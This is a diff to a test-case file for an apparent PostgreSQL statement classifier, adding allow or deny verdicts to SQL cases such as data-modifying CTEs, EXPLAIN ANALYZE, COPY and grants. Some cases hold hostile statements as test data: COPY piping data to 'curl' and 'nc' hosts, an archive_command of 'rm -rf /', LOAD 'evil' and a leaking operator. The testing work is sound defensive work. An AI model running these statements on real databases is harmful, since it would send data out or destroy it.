@@ -1,5 +1,6 @@
 case: a data-modifying CTE under a SELECT
 effects: delete read
+verdict: deny
 reads:
 writes: users
 unfiltered: yes
@@ -9,6 +10,7 @@ WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone
 
 case: a change deep inside nested WITHs
 effects: read update
+verdict: deny
 reads:
 writes: users
 unfiltered: yes
@@ -18,6 +20,7 @@ SELECT * FROM (WITH a AS (WITH b AS (UPDATE users SET id = 1 RETURNING id) SELEC
 
 case: SELECT INTO creates
 effects: create read
+verdict: deny
 reads: users
 defines: copy
 --8<--
@@ -26,6 +29,7 @@ SELECT * INTO copy FROM users
 
 case: SELECT INTO behind a list of labels
 effects: create read
+verdict: deny
 reads: users
 defines: copy
 --8<--
@@ -34,6 +38,7 @@ SELECT id AS into_, name "into" INTO TEMP TABLE copy FROM users
 
 case: CREATE TABLE AS reads
 effects: create read
+verdict: deny
 reads: users
 defines: copy
 --8<--
@@ -42,6 +47,7 @@ CREATE TABLE copy AS SELECT * FROM users
 
 case: CREATE TABLE AS EXECUTE executes
 effects: create execute
+verdict: deny
 defines: copy
 --8<--
 CREATE TEMP TABLE copy AS EXECUTE q(1)
@@ -49,6 +55,7 @@ CREATE TEMP TABLE copy AS EXECUTE q(1)
 
 case: INSERT … SELECT reads too
 effects: insert read
+verdict: deny
 reads: users
 writes: copy
 --8<--
@@ -57,6 +64,7 @@ INSERT INTO copy SELECT * FROM users
 
 case: INSERT of values only inserts
 effects: insert
+verdict: deny
 reads:
 writes: users
 --8<--
@@ -65,6 +73,7 @@ INSERT INTO users VALUES (1, DEFAULT)
 
 case: INSERT with a subquery among its values reads
 effects: insert read
+verdict: deny
 reads: secrets
 writes: users
 --8<--
@@ -73,6 +82,7 @@ INSERT INTO users VALUES (1, (SELECT key FROM secrets))
 
 case: ON CONFLICT DO UPDATE updates
 effects: insert update
+verdict: deny
 writes: users
 unfiltered: no
 --8<--
@@ -81,6 +91,7 @@ INSERT INTO users (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET name = excluded
 
 case: ON CONFLICT after a join belongs to the INSERT
 effects: insert read
+verdict: deny
 reads: a b
 writes: users
 --8<--
@@ -89,6 +100,7 @@ INSERT INTO users SELECT * FROM a JOIN b ON a.id = b.id ON CONFLICT DO NOTHING
 
 case: MERGE and each of its actions
 effects: delete insert merge read update
+verdict: deny
 reads: news
 writes: users
 --8<--
@@ -97,6 +109,7 @@ MERGE INTO users u USING news n ON u.id = n.id WHEN MATCHED AND n.gone THEN DELE
 
 case: FOR UPDATE locks
 effects: lock read
+verdict: deny
 reads: users
 --8<--
 SELECT * FROM users FOR NO KEY UPDATE SKIP LOCKED
@@ -104,6 +117,7 @@ SELECT * FROM users FOR NO KEY UPDATE SKIP LOCKED
 
 case: FOR UPDATE in a subquery locks
 effects: lock read
+verdict: deny
 reads: users
 --8<--
 SELECT (SELECT id FROM users LIMIT 1 FOR UPDATE)
@@ -111,6 +125,7 @@ SELECT (SELECT id FROM users LIMIT 1 FOR UPDATE)
 
 case: EXPLAIN does not run what it explains
 effects: explain read
+verdict: allow
 writes: users
 unfiltered: yes
 --8<--
@@ -119,6 +134,7 @@ EXPLAIN DELETE FROM users
 
 case: EXPLAIN ANALYZE runs it
 effects: delete explain read
+verdict: deny
 writes: users
 unfiltered: yes
 --8<--
@@ -127,6 +143,7 @@ EXPLAIN ANALYZE DELETE FROM users
 
 case: EXPLAIN ANALYSE in British spelling runs it
 effects: delete explain read
+verdict: deny
 writes: users
 --8<--
 EXPLAIN ANALYSE VERBOSE DELETE FROM users WHERE true
@@ -134,6 +151,7 @@ EXPLAIN ANALYSE VERBOSE DELETE FROM users WHERE true
 
 case: EXPLAIN with ANALYZE among its options
 effects: delete explain read
+verdict: deny
 writes: users
 --8<--
 EXPLAIN (COSTS off, "analyze") DELETE FROM users WHERE true
@@ -141,6 +159,7 @@ EXPLAIN (COSTS off, "analyze") DELETE FROM users WHERE true
 
 case: EXPLAIN (ANALYZE 1)
 effects: delete explain read
+verdict: deny
 writes: users
 --8<--
 EXPLAIN (ANALYZE 1) DELETE FROM users WHERE true
@@ -148,6 +167,7 @@ EXPLAIN (ANALYZE 1) DELETE FROM users WHERE true
 
 case: EXPLAIN (ANALYZE 'on')
 effects: delete explain read
+verdict: deny
 writes: users
 --8<--
 EXPLAIN (ANALYZE 'on', FORMAT json) DELETE FROM users WHERE true
@@ -155,6 +175,7 @@ EXPLAIN (ANALYZE 'on', FORMAT json) DELETE FROM users WHERE true
 
 case: EXPLAIN (ANALYZE off) does not run it
 effects: explain read
+verdict: allow
 writes: users
 --8<--
 EXPLAIN (ANALYZE off) DELETE FROM users WHERE true
@@ -162,18 +183,21 @@ EXPLAIN (ANALYZE off) DELETE FROM users WHERE true
 
 case: EXPLAIN with ANALYZE on and then off counts as on
 effects: delete explain read
+verdict: deny
 --8<--
 EXPLAIN (ANALYZE on, ANALYZE off) DELETE FROM users WHERE true
 --8<--
 
 case: EXPLAIN ANALYZE EXECUTE runs a prepared statement
 effects: execute explain read
+verdict: deny
 --8<--
 EXPLAIN ANALYZE EXECUTE p(1)
 --8<--
 
 case: EXPLAIN ANALYZE CREATE TABLE AS creates
 effects: create explain read
+verdict: deny
 reads: users
 defines: copy
 --8<--
@@ -182,6 +206,7 @@ EXPLAIN (ANALYZE) CREATE TABLE copy AS SELECT * FROM users
 
 case: EXPLAIN of a query in parentheses is not a list of options
 effects: explain read
+verdict: allow
 reads: users
 --8<--
 EXPLAIN (SELECT * FROM users)
@@ -189,6 +214,7 @@ EXPLAIN (SELECT * FROM users)
 
 case: COPY out
 effects: copy-out read
+verdict: deny
 reads: users
 --8<--
 COPY users (id, email) TO STDOUT WITH (FORMAT csv)
@@ -196,6 +222,7 @@ COPY users (id, email) TO STDOUT WITH (FORMAT csv)
 
 case: COPY in
 effects: copy-in insert
+verdict: deny
 writes: users
 --8<--
 COPY users FROM STDIN
@@ -203,6 +230,7 @@ COPY users FROM STDIN
 
 case: COPY to a file
 effects: copy-file read
+verdict: deny
 reads: public.users
 --8<--
 COPY public.users TO '/tmp/users'
@@ -210,6 +238,7 @@ COPY public.users TO '/tmp/users'
 
 case: COPY from a program
 effects: copy-program insert
+verdict: deny
 writes: users
 --8<--
 COPY users FROM PROGRAM 'curl example.com'
@@ -217,6 +246,7 @@ COPY users FROM PROGRAM 'curl example.com'
 
 case: COPY of a DELETE
 effects: copy-out delete read
+verdict: deny
 writes: users
 unfiltered: yes
 --8<--
@@ -225,6 +255,7 @@ COPY (DELETE FROM users RETURNING *) TO STDOUT
 
 case: COPY of a query to a program
 effects: copy-program read
+verdict: deny
 reads: users
 functions: lower
 --8<--
@@ -233,6 +264,7 @@ COPY (SELECT lower(email) FROM users) TO PROGRAM 'nc example.com 1'
 
 case: PREPARE does what it prepares
 effects: delete prepare
+verdict: deny
 writes: users
 unfiltered: yes
 --8<--
@@ -241,18 +273,21 @@ PREPARE p AS DELETE FROM users
 
 case: EXECUTE
 effects: execute
+verdict: deny
 --8<--
 EXECUTE p(1, f('x'))
 --8<--
 
 case: DO
 effects: do
+verdict: deny
 --8<--
 DO LANGUAGE plpgsql $$BEGIN DELETE FROM users; END$$
 --8<--
 
 case: CALL and its arguments
 effects: call
+verdict: deny
 functions: admin.purge f
 --8<--
 CALL admin.purge(f(1))
@@ -260,6 +295,7 @@ CALL admin.purge(f(1))
 
 case: DECLARE CURSOR reads and locks
 effects: lock read
+verdict: deny
 reads: users
 --8<--
 DECLARE c NO SCROLL CURSOR WITH HOLD FOR SELECT * FROM users FOR UPDATE
@@ -267,12 +303,14 @@ DECLARE c NO SCROLL CURSOR WITH HOLD FOR SELECT * FROM users FOR UPDATE
 
 case: FETCH reads
 effects: read
+verdict: allow
 --8<--
 FETCH FORWARD 10 FROM c
 --8<--
 
 case: UPDATE without WHERE
 effects: update
+verdict: deny
 writes: users
 unfiltered: yes
 --8<--
@@ -281,6 +319,7 @@ UPDATE users SET a = 1
 
 case: UPDATE with a WHERE that is only in a subquery
 effects: read update
+verdict: deny
 reads: b
 writes: users
 unfiltered: yes
@@ -290,6 +329,7 @@ UPDATE users SET a = (SELECT b FROM b WHERE true)
 
 case: DELETE with USING and WHERE
 effects: delete read
+verdict: deny
 reads: b
 writes: users
 unfiltered: no
@@ -299,6 +339,7 @@ DELETE FROM ONLY users AS u USING b WHERE u.id = b.id
 
 case: TRUNCATE
 effects: truncate
+verdict: deny
 writes: s.a b
 --8<--
 TRUNCATE TABLE ONLY s.a, b RESTART IDENTITY CASCADE
@@ -306,6 +347,7 @@ TRUNCATE TABLE ONLY s.a, b RESTART IDENTITY CASCADE
 
 case: LOCK
 effects: lock
+verdict: deny
 defines: users
 --8<--
 LOCK TABLE users IN ACCESS EXCLUSIVE MODE
@@ -313,6 +355,7 @@ LOCK TABLE users IN ACCESS EXCLUSIVE MODE
 
 case: two statements, the second a DROP
 effects: drop read
+verdict: deny
 defines: users
 statements: 2
 --8<--
@@ -321,6 +364,7 @@ SELECT 1; DROP TABLE users
 
 case: statements behind empty ones
 effects: drop
+verdict: deny
 defines: users
 --8<--
 ;; /* nothing */ ; DROP TABLE users ;;
@@ -328,6 +372,7 @@ defines: users
 
 case: COMMIT in the middle of a text
 effects: drop transaction
+verdict: deny
 defines: users
 statements: 3
 --8<--
@@ -336,6 +381,7 @@ BEGIN; DROP TABLE users; COMMIT
 
 case: LISTEN and NOTIFY
 effects: listen
+verdict: deny
 statements: 3
 --8<--
 LISTEN a; NOTIFY a, 'x'; UNLISTEN *
@@ -343,6 +389,7 @@ LISTEN a; NOTIFY a, 'x'; UNLISTEN *
 
 case: maintenance
 effects: maintenance
+verdict: deny
 defines: a b c d
 statements: 4
 --8<--
@@ -351,6 +398,7 @@ VACUUM (FULL, ANALYZE) a; ANALYZE VERBOSE b (x, y); REINDEX TABLE CONCURRENTLY c
 
 case: GRANT and REVOKE
 effects: grant
+verdict: deny
 defines: a b
 statements: 2
 --8<--
@@ -359,6 +407,7 @@ GRANT SELECT (x), UPDATE ON a TO PUBLIC WITH GRANT OPTION; REVOKE ALL ON TABLE b
 
 case: ALTER DEFAULT PRIVILEGES and REASSIGN
 effects: grant
+verdict: deny
 statements: 2
 --8<--
 ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC; REASSIGN OWNED BY a TO b
@@ -366,6 +415,7 @@ ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC; REASSIGN OWNED BY a TO b
 
 case: what reaches outside is CREATE
 effects: create
+verdict: deny
 statements: 5
 --8<--
 CREATE EXTENSION dblink; CREATE SERVER s FOREIGN DATA WRAPPER w; CREATE USER MAPPING FOR u SERVER s; CREATE SUBSCRIPTION a CONNECTION 'x' PUBLICATION b; IMPORT FOREIGN SCHEMA x FROM SERVER s INTO y
@@ -373,12 +423,14 @@ CREATE EXTENSION dblink; CREATE SERVER s FOREIGN DATA WRAPPER w; CREATE USER MAP
 
 case: ALTER SYSTEM alters
 effects: alter
+verdict: deny
 --8<--
 ALTER SYSTEM SET archive_command = 'rm -rf /'
 --8<--
 
 case: LOAD runs a library nobody can see through
 effects: unknown
+verdict: deny
 understood: no
 --8<--
 LOAD 'evil'
@@ -386,6 +438,7 @@ LOAD 'evil'
 
 case: a statement of no known kind
 effects: unknown
+verdict: deny
 understood: no
 --8<--
 FROBNICATE users
@@ -393,8 +446,24 @@ FROBNICATE users
 
 case: an SQL body of a function is read
 effects: create delete read
+verdict: deny
 writes: users
 unfiltered: yes
 --8<--
 CREATE OR REPLACE PROCEDURE p() BEGIN ATOMIC DELETE FROM users RETURNING *; END
+--8<--
+
+case: a temporary table named like a real one is created
+effects: create
+verdict: deny
+defines: users
+--8<--
+CREATE TEMP TABLE users (id int)
+--8<--
+
+case: an operator of one's own is created
+effects: create
+verdict: deny
+--8<--
+CREATE OPERATOR public.= (LEFTARG = text, RIGHTARG = text, FUNCTION = public.leak)
 --8<--
